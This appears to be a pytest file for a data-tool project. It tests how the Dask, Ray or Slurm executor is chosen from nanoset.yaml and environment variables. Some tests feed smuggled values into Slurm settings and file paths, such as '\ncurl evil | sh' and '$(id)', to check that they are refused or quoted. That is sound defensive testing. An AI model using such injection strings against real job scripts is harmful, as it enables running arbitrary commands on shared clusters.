"""nanoset.yaml and the environment choose the executor; test_settings.py has what is refused."""

from __future__ import annotations

from pathlib import Path

import pytest

from nanoset_core.errors import ConfigError
from nanoset_core.execution.cluster_executor import ClusterExecutor
from nanoset_core.execution.dask_scheduler import DaskScheduler
from nanoset_core.execution.ray_cluster import RayCluster
from nanoset_core.execution.slurm import SlurmJobs
from nanoset_core.project.project import Project
from nanoset_core.project.run_settings import ExecutorSpec, chosen_executor
from nanoset_core.project.settings import load_config

SECTION = "/p/nanoset.yaml: executor"
"""Where the executor is configured, as errors name it."""
DASK = ExecutorSpec("dask", "tcp://written:1", wait="2h")
DAY_SECONDS = 86_400


def write_config(folder: Path, executor: str = "") -> Path:
    """Write the nanoset.yaml of a project, with lines for its executor, and return its path."""
    path = folder / "nanoset.yaml"
    path.write_text(f"raw: raw\nroot: data\ntokenizer: {{path: t.json, eod: x}}\n{executor}")
    return path


@pytest.mark.parametrize(
    ("wait", "seconds"),
    [
        (None, 60),
        (90, 90),
        (0.5, 0.5),
        (1e-05, 1e-05),
        ("90", 90),
        ("30m", 1800),
        ("1.5h", 5400),
        ("2d", 2 * DAY_SECONDS),
    ],
)
def test_the_time_to_wait_for_a_cluster_may_have_a_unit(wait, seconds):
    assert ExecutorSpec(wait=wait).wait_seconds == seconds


# The environment


@pytest.mark.parametrize(
    "environment",
    [
        pytest.param({}, id="no variables"),
        pytest.param(
            {
                "NANOSET_DASK_ADDRESS": "",
                "NANOSET_DASK_SCHEDULER_FILE": "",
                "NANOSET_DASK_WAIT": "",
                "NANOSET_RAY_ADDRESS": "",
                "NANOSET_RAY_WAIT": "",
            },
            id="empty variables",
        ),
    ],
)
def test_without_variables_nanoset_yaml_chooses_the_executor(environment):
    assert chosen_executor(SECTION, DASK, environment) == (DASK, f"{SECTION}.address")

    executor, _ = chosen_executor(SECTION, ExecutorSpec(), environment)
    assert executor == ExecutorSpec()


CONFIGURED = [
    pytest.param(ExecutorSpec(), id="processes"),
    pytest.param(DASK, id="address of Dask"),
    pytest.param(ExecutorSpec("dask", scheduler_file="s.json"), id="file of Dask"),
    pytest.param(ExecutorSpec("ray", "ray://written:1", wait="3h"), id="address of Ray"),
]


@pytest.mark.parametrize("configured", CONFIGURED)
def test_an_address_in_the_environment_overrides_nanoset_yaml(configured):
    environment = {"NANOSET_DASK_ADDRESS": "tls://h:2"}

    executor, where = chosen_executor(SECTION, configured, environment)

    assert executor == ExecutorSpec("dask", "tls://h:2", wait=configured.wait)
    assert where == "NANOSET_DASK_ADDRESS in the environment"


@pytest.mark.parametrize("configured", CONFIGURED)
def test_an_address_of_ray_in_the_environment_overrides_nanoset_yaml(configured):
    environment = {"NANOSET_RAY_ADDRESS": "ray://h:2"}

    executor, where = chosen_executor(SECTION, configured, environment)

    assert executor == ExecutorSpec("ray", "ray://h:2", wait=configured.wait)
    assert where == "NANOSET_RAY_ADDRESS in the environment"


@pytest.mark.parametrize(
    ("configured", "wait"),
    [
        pytest.param(DASK, "1m", id="Dask"),
        pytest.param(ExecutorSpec("ray", "ray://written:1"), "2m", id="Ray"),
    ],
)
def test_each_kind_of_cluster_has_its_own_variable_for_the_time_to_wait(configured, wait):
    environment = {"NANOSET_DASK_WAIT": "1m", "NANOSET_RAY_WAIT": "2m"}

    executor, _ = chosen_executor(SECTION, configured, environment)

    assert executor.wait == wait


@pytest.mark.parametrize("configured", CONFIGURED)
def test_a_scheduler_file_in_the_environment_overrides_nanoset_yaml(
    configured, tmp_path, monkeypatch
):
    # It is relative to the current folder, not to that of nanoset.yaml.
    monkeypatch.chdir(tmp_path)
    environment = {"NANOSET_DASK_SCHEDULER_FILE": "here/s.json", "NANOSET_DASK_WAIT": "24h"}

    executor, where = chosen_executor(SECTION, configured, environment)

    scheduler_file = str(tmp_path / "here" / "s.json")
    assert executor == ExecutorSpec("dask", scheduler_file=scheduler_file, wait="24h")
    assert where == "NANOSET_DASK_SCHEDULER_FILE in the environment"


@pytest.mark.parametrize(
    ("variables", "what", "where"),
    [
        pytest.param(
            {"NANOSET_DASK_ADDRESS": "tcp://h:1", "NANOSET_DASK_SCHEDULER_FILE": "s.json"},
            "named twice",
            "NANOSET_DASK_SCHEDULER_FILE",
            id="address and file",
        ),
        pytest.param(
            {"NANOSET_DASK_ADDRESS": "h:1"},
            "not the address",
            "NANOSET_DASK_ADDRESS",
            id="address without a protocol",
        ),
        pytest.param(
            {"NANOSET_DASK_ADDRESS": "tcp://h:1", "NANOSET_RAY_ADDRESS": "ray://h:1"},
            "two clusters are named",
            "NANOSET_RAY_ADDRESS",
            id="Dask and Ray",
        ),
        pytest.param(
            {"NANOSET_RAY_ADDRESS": "h:6379"},
            "not the address of a Ray cluster",
            "NANOSET_RAY_ADDRESS",
            id="address of Ray without a protocol",
        ),
        pytest.param(
            {"NANOSET_DASK_WAIT": "long"}, "not a time to wait", "NANOSET_DASK_WAIT", id="wait"
        ),
    ],
)
def test_wrong_variables_are_refused_when_nanoset_yaml_is_loaded(
    variables, what, where, tmp_path, monkeypatch
):
    for name, value in variables.items():
        monkeypatch.setenv(name, value)
    config_file = write_config(tmp_path)

    with pytest.raises(ConfigError, match=what) as caught:
        load_config(config_file)

    assert caught.value.where == f"{where} in the environment"


# Dask


def test_a_scheduler_file_in_nanoset_yaml_is_relative_to_its_folder(tmp_path):
    executor = "executor: {kind: dask, scheduler_file: run/s.json, wait: 24h}\n"
    config_file = write_config(tmp_path, executor)

    project = Project.open(config_file)

    where = f"{config_file}: executor.scheduler_file"
    scheduler = DaskScheduler(None, tmp_path / "run" / "s.json", float(DAY_SECONDS), where)
    assert project.executor == ClusterExecutor(
        scheduler, project.outputs.access, (tmp_path / "t.json",)
    )


def test_the_command_that_starts_dask_workers_is_quoted_for_a_shell():
    scheduler = DaskScheduler(file=Path("/a b/$(id)/s.json"))

    assert scheduler.start_workers.endswith(
        "`dask worker --scheduler-file '/a b/$(id)/s.json' --nthreads 1`"
    )


# Ray


def test_a_ray_cluster_has_the_address_and_time_of_nanoset_yaml(tmp_path):
    executor = "executor: {kind: ray, address: 'ray://head:10001', wait: 24h}\n"
    config_file = write_config(tmp_path, executor)

    project = Project.open(config_file)

    where = f"{config_file}: executor.address"
    assert project.executor == ClusterExecutor(
        RayCluster("ray://head:10001", float(DAY_SECONDS), where),
        project.outputs.access,
        (tmp_path / "t.json",),
    )


@pytest.mark.parametrize(
    "settings", ["kind: ray", "kind: ray, address: 'head:6379'", "kind: ray, address: auto"]
)
def test_a_ray_cluster_needs_the_address_of_its_client_server(tmp_path, settings):
    config_file = write_config(tmp_path, f"executor: {{{settings}}}\n")

    with pytest.raises(ConfigError, match="not the address of a Ray cluster") as caught:
        load_config(config_file)

    assert "ray://host:10001" in caught.value.remedy


def test_a_ray_cluster_has_no_scheduler_file(tmp_path):
    settings = "{kind: ray, address: 'ray://head:10001', scheduler_file: s.json}"
    config_file = write_config(tmp_path, f"executor: {settings}\n")

    with pytest.raises(ConfigError, match="the executor ray has no scheduler_file"):
        load_config(config_file)


# Slurm


def write_slurm_config(folder: Path, settings: str) -> Path:
    """Write the nanoset.yaml of a project with settings of its Slurm jobs, and return its path."""
    return write_config(folder, f"executor: {{kind: slurm, {settings}}}\n")


def slurm_jobs(folder: Path, settings: str) -> SlurmJobs:
    """Return the jobs that a project with some settings submits."""
    return Project.open(write_slurm_config(folder, settings)).executor.cluster


def test_slurm_jobs_have_defaults(tmp_path):
    jobs = slurm_jobs(tmp_path, "jobs: 3")

    folder = tmp_path / ".nanoset" / "slurm"
    where = f"{tmp_path / 'nanoset.yaml'}: executor"
    assert jobs == SlurmJobs(3, 1, "2GB", 3600, folder, where=where)


def test_slurm_jobs_have_memory_for_each_processor(tmp_path):
    assert slurm_jobs(tmp_path, "jobs: 1, cpus: 4, wait: 2d").memory == "8GB"


def test_slurm_jobs_have_all_settings_of_nanoset_yaml(tmp_path):
    settings = (
        "jobs: 2, partition: p, account: a, time: 90m, cpus: 2, memory: 5GB, directives: "
        "[--qos=x], wait: 1h"
    )

    jobs = slurm_jobs(tmp_path, settings)

    folder = tmp_path / ".nanoset" / "slurm"
    where = f"{tmp_path / 'nanoset.yaml'}: executor"
    assert jobs == SlurmJobs(2, 2, "5GB", 5400, folder, "p", "a", ("--qos=x",), 3600.0, where)


INJECTED = ["\\ncurl evil | sh", "\\r\\ntouch x", "\\x85id", "\\u2028id", "\\e[2J", "\\u202eab"]
"""Line breaks and other control characters with text after them, as YAML escapes them."""


@pytest.mark.parametrize("injected", INJECTED)
@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("partition", '"p{}"'),
        ("account", '"a{}"'),
        ("directives", '["--qos=x{}"]'),
        ("memory", '"2GB{}"'),
        ("time", '"4h{}"'),
    ],
)
def test_no_setting_can_add_a_line_to_a_job_script(tmp_path, key, value, injected):
    config_file = write_slurm_config(tmp_path, f"jobs: 1, {key}: {value.format(injected)}")

    with pytest.raises(ConfigError, match=f"executor.{key}"):
        load_config(config_file)


@pytest.mark.parametrize(
    "setting",
    ["partition: 'p -w x'", "account: '$(id)'", "directives: ['qos=x']", "directives: ['']"],
)
def test_names_and_directives_that_a_script_cannot_have_are_refused(tmp_path, setting):
    config_file = write_slurm_config(tmp_path, f"jobs: 1, {setting}")

    with pytest.raises(ConfigError, match="script"):
        load_config(config_file)


@pytest.mark.parametrize(
    "directive", ["--constraint=ib", "-C ib&avx", "--comment='two words'", "--gres=gpu:a100:2"]
)
def test_usual_names_and_directives_are_accepted(tmp_path, directive):
    settings = f"jobs: 1, partition: 'a,b', account: a/b.c-d_e, directives: [\"{directive}\"]"

    config = load_config(write_slurm_config(tmp_path, settings))

    assert config.executor.directives == (directive,)
